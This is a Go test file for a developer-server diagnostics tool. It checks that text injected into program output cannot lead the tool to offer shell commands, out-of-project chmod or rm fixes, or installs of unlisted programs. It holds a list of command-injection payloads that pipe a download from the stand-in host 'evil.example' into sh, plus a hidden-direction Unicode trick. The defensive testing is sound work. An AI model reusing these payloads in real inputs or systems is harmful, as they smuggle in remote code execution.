package rules

import (
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"devservers/app"
	"devservers/app/reading/why/output"
)

// attacks are what a request can make a server print instead of a name.
var attacks = []string{"x$(curl evil.example|sh)", "x;curl${IFS}evil.example", "`curl evil.example`", "x && curl evil.example", "x\u202eevil.example|sh"}

// replaceable matches the parts of a line that can be a name: in quotes, or a word with a dot, a slash, a dash or a _.
var replaceable = regexp.MustCompile(`"[^"]+"|'[^']+'|\x60[^\x60]+\x60|[\w@/.-]*[/._@-][\w@/.-]*|\b[A-Z][A-Z0-9]{2,}\b`)

// TestNoOutputEntersAFix puts commands for a shell into every place of everything that programs are known to print, where a
// name can be: no fix may repeat them.
func TestNoOutputEntersAFix(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/printed.txt")
	if err != nil {
		t.Fatal(err)
	}
	lines := map[string]bool{}
	for _, text := range strings.Split(string(data), "=== ")[1:] {
		_, output, _ := strings.Cut(text, "\n\n")
		for _, line := range strings.Split(output, "\n") {
			lines[line] = true
		}
	}
	for _, o := range outputs {
		for _, line := range strings.Split(o.output, "\n") {
			lines[line] = true
		}
	}
	c := project(t, "", map[string]string{"package.json": `{"dependencies": {"express": "4"}}`, "requirements.txt": "Django", "web.lock": "999999"})
	n := 0
	for _, line := range slices.Sorted(maps.Keys(lines)) {
		for i, at := range replaceable.FindAllStringIndex(line, 6) {
			part, attack := line[at[0]:at[1]], attacks[(n+i)%len(attacks)]
			n++
			if strings.ContainsAny(part[:1], "\"'`") {
				attack = part[:1] + attack + part[:1]
			}
			for _, failed := range []bool{false, true} {
				c.Failed, c.Ready, c.Lines = failed, !failed, []output.Line{{Seq: 1, Text: line[:at[0]] + attack + line[at[1]:]}}
				isHarmless(t, c.Lines[0].Text, c.Causes())
			}
		}
	}
	if n < 500 {
		t.Errorf("only %d attacks were made", n)
	}
}

// isHarmless fails the test if a finding offers a command that an attacker wrote into a line.
func isHarmless(t *testing.T, line string, list []app.Finding) {
	t.Helper()
	for _, f := range list {
		offers := f.Fix + f.Manual
		if f.Step != nil {
			offers += f.Step.Name + f.Step.Value
		}
		if strings.Contains(offers, "curl") || strings.Contains(offers, "|sh") || strings.Contains(offers, "\u202e") {
			t.Errorf("%s\n%+v", line, f)
		}
		if strings.Contains(f.Problem, "curl") && !f.Quotes {
			t.Errorf("not marked as the program's words: %s\n%+v", line, f)
		}
	}
}

// TestFixesChangeOnlyFilesOfTheProject: the output can name any file of the machine.
func TestFixesChangeOnlyFilesOfTheProject(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		`FATAL: data directory "$OTHER" has invalid permissions`,
		`Permissions 0644 for '$OTHER/key.pem' are too open.`,
		`sh: 1: $OTHER/tool.sh: Permission denied`,
		`another instance is running: $OTHER/web.pid exists`,
		`SQLiteError: attempt to write a readonly database sqlite:$OTHER/shut.db`,
	} {
		other := project(t, "", map[string]string{"key.pem": "", "tool.sh": "", "web.pid": "999999999\n", "shut.db": ""}).Dir
		if err := os.Chmod(other+"/shut.db", 0o400); err != nil {
			t.Fatal(err)
		}
		c := project(t, strings.ReplaceAll(line, "$OTHER", other), nil)
		c.Failed = true
		for _, f := range c.Causes() {
			if regexp.MustCompile(`^(?:chmod|rm|mkdir) `).MatchString(f.Fix) {
				t.Errorf("%s\n%+v", line, f)
			}
		}
	}
}

// TestUnlistedProgramIsNotOffered: a name in the output may be made up, to be installed.
func TestUnlistedProgramIsNotOffered(t *testing.T) {
	t.Parallel()
	c := project(t, "GET /?q= evil-tool: command not found", nil)
	for _, f := range ruled(c) {
		if strings.HasPrefix(f.Fix, "install ") {
			t.Errorf("%+v", f)
		}
	}
}
